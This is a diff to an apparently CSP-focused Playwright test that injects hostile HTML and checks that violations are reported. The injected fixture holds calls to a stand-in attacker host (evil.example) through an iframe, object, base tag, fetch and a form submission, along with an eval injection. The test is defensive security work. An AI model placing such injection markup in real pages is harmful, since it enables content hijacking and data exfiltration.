@@ -74,11 +74,9 @@ const INJECTED_HTML = `
   <iframe src="https://evil.example/"></iframe>
   <object data="https://evil.example/"></object>
   <base href="https://evil.example/">
-  <form id="evil" action="https://evil.example/"></form>
   <script>
     try { eval('window.hacked = "eval"') } catch {}
     fetch('https://evil.example/').catch(() => {})
-    document.getElementById('evil').submit()
   </script>`
 
 test.describe('with code in the page', () => {
@@ -98,6 +96,12 @@ test.describe('with code in the page', () => {
       })
       await page.goto(path)
       await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+      await page.evaluate(() => {
+        const form = document.createElement('form')
+        form.action = 'https://evil.example/'
+        document.body.append(form)
+        form.submit()
+      })
       await expect
         .poll(() => [...new Set(violations.map((violation) => violation.split(' ')[0]))].sort())
         .toEqual([
